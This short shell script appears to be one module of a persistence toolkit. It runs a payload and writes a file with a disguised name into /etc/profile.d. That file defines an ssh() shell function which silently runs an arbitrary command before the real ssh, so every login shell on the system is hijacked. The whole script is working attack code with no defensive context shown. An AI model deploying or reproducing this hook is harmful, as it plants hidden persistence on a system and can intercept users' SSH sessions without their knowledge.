#!/bin/sh
# bash-function: a function in front of a program (bash(1))
. "${0%/*}/lib.sh"
payload
append "/etc/profile.d/$(named ssh vte-2.91).sh" "$head" \
	"ssh() { $cmd; command ssh \"\$@\"; }"
